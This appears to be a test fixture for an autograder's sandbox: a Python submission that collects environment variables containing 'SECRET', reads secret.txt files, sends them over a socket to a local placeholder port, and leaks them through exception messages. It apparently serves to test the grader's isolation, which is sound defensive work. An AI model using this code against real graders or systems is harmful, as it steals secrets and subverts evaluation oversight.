# Read a secret from the grader's environment and from a file, send it out and smuggle it into the results.
# expect q1: !correct
# expect q2: !correct
# %%
import os, socket
found = [value for key, value in os.environ.items() if "SECRET" in key]
for path in ("{OUTSIDE}/secret.txt", os.path.expanduser("~/secret.txt")):
    try:
        found.append(open(path).read())
    except OSError:
        pass
try:
    socket.create_connection(("127.0.0.1", {PORT}), timeout=2).sendall(repr(found).encode())
except OSError:
    pass
def clip01(x):
    raise ValueError("leaked: " + repr(found))
raise RuntimeError("leaked: " + repr(found))
